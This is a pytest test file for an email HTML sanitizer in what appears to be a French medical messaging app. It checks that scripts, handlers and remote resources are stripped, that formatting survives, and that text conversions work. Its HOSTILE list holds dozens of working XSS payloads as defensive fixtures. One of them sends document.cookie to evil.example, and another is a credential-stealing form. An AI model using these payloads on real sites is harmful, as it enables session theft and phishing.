"""HTML of received mail: a hostile corpus comes out harmless, reading structure survives, and the
plain-text conversions behave."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from app.message.html import sanitize, text_to_html, to_text

HOSTILE = [
    # scripts in every disguise
    "<script>alert(1)</script>",
    "<SCRIPT SRC=http://xss.example/xss.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/xss src='//evil.example/x.js'></script>",
    '<<script>alert("x");//<</script>',
    "<div><script>document.write('<img src=http://evil.example/c?'+document.cookie+'>')</script></div>",
    # javascript: URLs in many encodings
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="jav&#x0A;ascript:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<img src="javascript:alert(1)">',
    "<img src=`javascript:alert(1)`>",
    # event handlers
    "<img src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    '<div onmouseover="alert(1)">survol</div>',
    "<svg/onload=alert(1)>",
    '<p ONCLICK="alert(1)">p</p>',
    # remote images and CSS
    '<img src="http://tracker.example/pixel.gif">',
    '<img src="https://tracker.example/pixel.gif" width="1" height="1">',
    '<img src="//tracker.example/pixel.gif">',
    '<img src="ftp://tracker.example/p.gif">',
    '<img srcset="http://evil.example/a.png 1x, https://evil.example/b.png 2x">',
    '<picture><source srcset="https://evil.example/a.webp"><img src="cid:a"></picture>',
    '<div style="background:url(http://evil.example/bg.png)">bg</div>',
    "<div style=\"background-image: url('//evil.example/x')\">bg</div>",
    '<div style="width: expression(alert(1))">ie</div>',
    "<style>@import url(http://evil.example/x.css); body{background:url(https://e.example/b)}</style>",
    '<link rel="stylesheet" href="http://evil.example/x.css">',
    '<table background="http://evil.example/t.png"><tr><td background="https://e.example/t">c</td></tr></table>',
    '<body background="http://evil.example/b.png">',
    '<video poster="http://evil.example/p.png" src="http://evil.example/v.mp4"></video>',
    '<audio src="https://evil.example/a.mp3"></audio>',
    '<input type="image" src="http://evil.example/i.png">',
    # SVG with scripts
    '<svg><script>alert(1)</script><image href="http://evil.example/s.png"/></svg>',
    '<svg><a xlink:href="javascript:alert(1)"><text>t</text></a></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    # forms
    '<form action="http://evil.example/steal"><input name="pw"><button>OK</button></form>',
    '<button formaction="javascript:alert(1)">b</button>',
    "<textarea>secret</textarea><select><option>o</option></select>",
    # frames, objects, embeds, base, meta
    '<iframe src="http://evil.example/"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="http://evil.example/x.swf"></object>',
    '<embed src="http://evil.example/x.swf">',
    '<base href="http://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=http://evil.example/">',
    '<frameset><frame src="http://evil.example/"></frameset>',
    # data: URLs
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">d</a>',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<img src="data:image/png;base64,iVBORw0KGgo=">',
    '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>',
    # mXSS classics
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<template><img src=x onerror=alert(1)></template>",
    '<a href="http://ok.example" title="http://evil.example/t">ok</a>',
    "<!--<img src=x onerror=alert(1)>-->",
    '<img alt="x" src="cid:logo@example" onerror="alert(1)">',
    # deep nesting
    "<div>" * 10_000 + "profond" + "</div>" * 10_000,
    "<b><i>" * 3000 + "x",
]

_REMOTE_VALUE = re.compile(r"(?i)(?:https?:|ftp:|^\s*//|url\()")
_FORBIDDEN_TAGS = {
    "script", "style", "iframe", "object", "embed", "form", "input", "base", "meta", "svg",
    "frame", "frameset", "link", "video", "audio", "button", "textarea", "select", "math",
}  # fmt: skip


class _Elements(HTMLParser):
    """What a browser's parser sees in the output: every element and its attributes."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, attrs))


def _harmless(output: str) -> None:
    lowered = output.lower()
    assert "<script" not in lowered
    assert "<style" not in lowered
    parser = _Elements()
    parser.feed(output)
    parser.close()
    for tag, attrs in parser.found:
        assert tag not in _FORBIDDEN_TAGS, tag
        for name, raw in attrs:
            value = re.sub(r"[\s\x00-\x1f]", "", raw or "").lower()
            assert not name.startswith("on"), name
            assert name not in ("style", "srcset", "background", "poster", "formaction"), name
            assert "javascript:" not in value, (name, value)
            assert "vbscript:" not in value, (name, value)
            assert "data:" not in value, (name, value)
            if name == "href":
                assert value.startswith(("http://", "https://", "mailto:")), value
                continue  # a link the user may click; nothing loads it by itself
            assert not _REMOTE_VALUE.search(value), (name, value)
            if name == "src":
                assert tag == "img", tag
                assert value.startswith("cid:"), value


@pytest.mark.parametrize("source", HOSTILE, ids=range(len(HOSTILE)))
def test_hostile_corpus_comes_out_harmless(source: str) -> None:
    output = sanitize(source)
    _harmless(output)
    assert "javascript:" not in output.lower()
    # Sanitising twice changes nothing more: the output is stable (no mutation on re-parse).
    assert sanitize(output) == output


def test_deep_nesting_keeps_the_text() -> None:
    output = sanitize("<div>" * 10_000 + "profond" + "</div>" * 10_000)
    assert "profond" in output
    assert "profond" in to_text("<div>" * 10_000 + "profond" + "</div>" * 10_000)


def test_reading_structure_survives() -> None:
    source = (
        "<h1>Titre</h1><p>Bonjour <b>Docteur</b>, <i>voici</i> <u>le</u> <strong>CR</strong>."
        "</p><ul><li>un</li></ul><ol><li>deux</li></ol><blockquote>cité</blockquote>"
        "<pre>  code  </pre><table><thead><tr><th>A</th></tr></thead><tbody><tr><td colspan=2>"
        "1</td></tr></tbody></table>"
        '<a href="https://sisra.example/dossier">dossier</a> <a href="mailto:a@b.example">m</a>'
        '<img src="cid:logo@sisra" alt="logo">'
    )
    output = sanitize(source)
    for kept in (
        "<h1>",
        "<b>",
        "<i>",
        "<u>",
        "<strong>",
        "<ul>",
        "<ol>",
        "<li>",
        "<blockquote>",
        "<pre>  code  </pre>",
        "<table>",
        "<th>",
        'colspan="2"',
        'src="cid:logo@sisra"',
    ):
        assert kept in output, kept
    assert '<a href="https://sisra.example/dossier" rel="noopener noreferrer">' in output
    assert 'href="mailto:a@b.example"' in output


def test_remote_image_is_dropped_but_its_alt_text_kept() -> None:
    output = sanitize('<p>avant<img src="https://t.example/p.gif" alt="pixel">après</p>')
    assert "t.example" not in output
    assert "avant" in output
    assert "après" in output


def test_relative_links_are_dropped() -> None:
    output = sanitize('<a href="/local/path">lien</a><a href="page.html">autre</a>')
    assert "href" not in output
    assert "lien" in output
    assert "autre" in output


def test_to_text_reads_like_the_message() -> None:
    source = (
        "<html><head><title>T</title><style>p{color:red}</style></head><body>"
        "<p>Bonjour&nbsp;Docteur,</p><p>Voici   le\n compte rendu.</p>"
        "<ul><li>Ordonnance</li><li>Bilan</li></ul><script>alert(1)</script>"
        "<div>Cordialement,<br>Dr Martin</div></body></html>"
    )
    text = to_text(source)
    assert text == (
        "Bonjour Docteur,\n\nVoici le compte rendu.\n\n- Ordonnance\n- Bilan\n\n"
        "Cordialement,\nDr Martin"
    )


def test_to_text_unescapes_entities_and_skips_invisible_parts() -> None:
    assert to_text("<p>R&eacute;sultat &lt; 5 &amp; stable</p>") == "Résultat < 5 & stable"
    assert to_text("<svg><text>caché</text></svg>visible") == "visible"


def test_text_to_html_escapes_links_and_paragraphs() -> None:
    text = (
        "Bonjour <Docteur> & co,\nvoir https://sisra.example/doc?a=1&b=2.\n\n"
        "Écrire à secretariat@cabinet.example ou www.cabinet.example"
    )
    output = text_to_html(text)
    assert output.count("<p>") == 2
    assert "&lt;Docteur&gt; &amp; co,<br>" in output
    assert 'href="https://sisra.example/doc?a=1&amp;b=2"' in output
    assert ">https://sisra.example/doc?a=1&amp;b=2</a>." in output
    assert 'href="mailto:secretariat@cabinet.example"' in output
    assert 'href="https://www.cabinet.example"' in output
    assert "<script" not in text_to_html("<script>alert(1)</script>")


def test_text_to_html_round_trips_through_to_text() -> None:
    text = "Ligne 1\nLigne 2\n\nParagraphe 2 avec <balise> & esperluette"
    assert to_text(text_to_html(text)) == text


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=400))
def test_random_text_never_yields_scripts_or_handlers(source: str) -> None:
    _harmless(sanitize(source))
    assert isinstance(to_text(source), str)


_pieces = st.sampled_from(
    ["<", ">", "/", "script", "img", "src=", "on", "error=", "javascript:", "http://e.x/",
     "'", '"', "=", " ", "a", "href=", "<svg", "<style>", "</", "&#x6A;", "data:", "url(", "!--"]
)  # fmt: skip


@settings(max_examples=400, deadline=None)
@given(st.lists(_pieces, max_size=40).map("".join))
def test_random_tag_soup_comes_out_harmless(source: str) -> None:
    _harmless(sanitize(source))
